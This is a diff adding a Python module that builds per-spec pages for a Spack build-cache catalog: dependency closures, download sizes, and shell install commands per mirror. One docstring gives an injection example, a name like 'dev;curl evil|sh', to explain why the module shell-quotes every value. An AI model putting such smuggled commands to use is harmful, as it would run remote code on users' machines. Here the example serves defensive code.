@@ -1,0 +1,116 @@
+"""A spec's page: everything known about one DAG hash (see :mod:`.pages` for the others).
+
+Built one at a time from the catalog (:func:`spec_page`), or for a whole site from the
+spec graph read once (``graph.SpecGraph`` calls :func:`spec_page_from`); both give
+the same page (a test compares them on every spec of the demo).
+"""
+
+from __future__ import annotations
+
+import shlex
+from collections.abc import Sequence
+
+import msgspec
+
+from ..catalog import Catalog, Edge, SpecSummary
+from ..errors import UnknownSpec
+from ..values import ROOT_STACK
+
+__all__ = ["Holder", "Install", "SpecPage", "install_commands", "spec_page", "spec_page_from"]
+
+
+class Holder(msgspec.Struct, frozen=True, gc=False):  # only strings: not tracked by the GC
+    """A mirror whose index holds a spec."""
+
+    tag: str
+    stack: str
+    listed: bool  #: the mirror has the binary (``in_buildcache``)
+    url: str
+
+
+class Install(msgspec.Struct, frozen=True, gc=False):
+    """How to install a spec from one mirror that has its binary, as shell commands."""
+
+    tag: str
+    stack: str
+    commands: str
+
+
+class SpecPage(msgspec.Struct, frozen=True, tag_field="page", tag="spec"):
+    """Everything known about one DAG hash.
+
+    Sizes: ``closure_size`` adds the known sizes of the binaries one downloads to
+    install the spec (its own, if a mirror lists it, and those of its link/run
+    closure that have a binary); ``closure_binaries`` counts those binaries and
+    ``closure_unknown`` those of them whose size is unknown. It is null when no size is known."""
+
+    spec: SpecSummary
+    holders: tuple[Holder, ...]
+    dependencies: tuple[Edge, ...]  #: direct, of every type (``deptypes``: build 1, link 2, run 4, test 8)
+    closure: tuple[Edge, ...]  #: link and run dependencies, transitively
+    dependents: tuple[Edge, ...]  #: that have a binary in the cache
+    closure_size: int | None  #: bytes to download with its dependencies (known sizes only); null: none known
+    closure_unknown: int  #: of ``closure_binaries``, those whose size is unknown
+    install: tuple[Install, ...]
+    node: str  #: the raw node JSON as the index holds it
+    closure_binaries: int = 0  #: binaries to download: the spec's (if listed) and its closure's
+
+
+def install_commands(tag: str, stack: str, url: str, dag_hash: str) -> str:
+    """The shell commands that install ``dag_hash`` from the mirror ``url``.
+
+    Users paste them into a shell, and names and URLs come from mirrors and config
+    files (a remote ``tags_from`` file among them): every value is shell-quoted, so a
+    name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are."""
+    mirror = f"{tag}-{stack}" if stack != ROOT_STACK else tag
+    return (
+        f"spack mirror add {shlex.quote(mirror)} {shlex.quote(url)}\n"
+        "spack buildcache keys --install --trust\n"
+        f"spack install --cache-only {shlex.quote('/' + dag_hash)}"
+    )
+
+
+def spec_page(catalog: Catalog, dag_hash: str) -> SpecPage:
+    """Everything known about one full hash."""
+    spec = catalog.spec_summary(dag_hash)
+    if spec is None:
+        raise UnknownSpec(dag_hash, f"no spec with hash {dag_hash!r} in the catalog")
+    return spec_page_from(
+        spec,
+        holders=[Holder(t, s, listed, url) for t, s, listed, url in catalog.holders(dag_hash)],
+        dependencies=catalog.edges_of(dag_hash),
+        # A spec is not its own dependency, even when an index says so (an edge to
+        # itself, or a cycle back to it): in its closure it would count twice.
+        closure=[edge for edge in catalog.closure(dag_hash) if edge.hash != dag_hash],
+        dependents=[e for e in catalog.edges_of(dag_hash, reverse=True) if e.listed],
+        node=catalog.node(dag_hash) or "{}",
+    )
+
+
+def spec_page_from(
+    spec: SpecSummary,
+    *,
+    holders: Sequence[Holder],
+    dependencies: Sequence[Edge],
+    closure: list[Edge],
+    dependents: Sequence[Edge],
+    node: str,
+) -> SpecPage:
+    """A spec's page from its parts (read one by one, or from a ``graph.SpecGraph``)."""
+    # Only binaries are downloaded: a dependency without one (an external) costs nothing.
+    binaries = [e.size for e in closure if e.listed] + ([spec.size] if spec.tags else [])
+    known = [size for size in binaries if size is not None]
+    return SpecPage(
+        spec=spec,
+        holders=tuple(holders),
+        dependencies=tuple(dependencies),
+        closure=tuple(closure),
+        dependents=tuple(dependents),
+        closure_size=sum(known) if known else None,
+        closure_unknown=len(binaries) - len(known),
+        install=tuple(
+            Install(h.tag, h.stack, install_commands(h.tag, h.stack, h.url, spec.hash)) for h in holders if h.listed
+        ),
+        node=node,
+        closure_binaries=len(binaries),
+    )
